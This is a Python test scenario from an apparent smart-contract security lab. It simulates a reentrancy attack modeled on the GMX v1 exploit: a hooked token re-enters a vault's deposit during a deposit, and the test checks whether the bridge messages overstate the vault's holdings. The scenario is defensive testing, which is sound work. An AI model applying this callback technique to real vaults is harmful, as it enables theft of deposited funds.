"""GMX: a callback in the middle of an order changed what shares were worth."""

from __future__ import annotations

from bridge.mailbox import Mailbox
from bridge.payloads import DepositMessage
from clearspan.lab.scenarios.banking import DEPOSIT, FOREVER, another_vault, held, odd_token
from clearspan.lab.scenarios.base import Scenario, Stage, Twin, Verdict
from clearspan.lab.scenarios.moves import LOOT, Heist, attempt

CALLS_BACK = 4


def attack(stage: Stage) -> Verdict:
    """A token with a hook deposits some of its own while the vault watches its balance grow by somebody else's.

    The venue calls nobody and has no shares: what a callback could spoil is the price of a deposit, one to one.
    """
    with stage.world() as world:
        heist = Heist(world)
        source, thief = heist.source, heist.thief
        token = odd_token(heist, "OddToken", (thief.address,))
        vault = another_vault(stage, heist, token.address)
        source.transact(token.functions.approve(vault.address, FOREVER), thief)
        source.transact(token.functions.mint(token.address, LOOT), heist.owner)
        approve = bytes.fromhex(token.encode_abi("approve", [vault.address, LOOT])[2:])
        source.transact(token.functions.configure(CALLS_BACK, token.address, approve), heist.owner)
        source.transact(token.functions.transfer(thief.address, 0), thief)
        inner = bytes.fromhex(vault.encode_abi(DEPOSIT, [token.address, LOOT, thief.address, 0])[2:])
        source.transact(token.functions.configure(CALLS_BACK, vault.address, inner), heist.owner)
        first = source.head().number + 1
        call = vault.get_function_by_signature(DEPOSIT)(token.address, LOOT, thief.address, 0)
        outcome = attempt(source, call, thief)
        sent = [one.packet for one in Mailbox(source, heist.entry.mailbox).sent(first, source.head().number)]
        said = sum(DepositMessage.decode(packet.payload).amount for packet in sent if packet is not None)
        there = held(source, token.address, vault.address)
        return Verdict(
            survived=0 < said <= there,
            detail=f"the deposit: {outcome}; {len(sent)} messages say {said}, the vault holds {there} base units",
        )


SCENARIO = Scenario(
    identifier="D11",
    title="A callback changes what something is worth while it is reckoned",
    group="venue",
    source="GMX v1, 9 Jul 2025, $42M",
    attack=attack,
    twin=Twin(
        mutation="a deposit may be made within a deposit",
        contracts=(("CollateralVault", "vault-reenters"),),
    ),
)
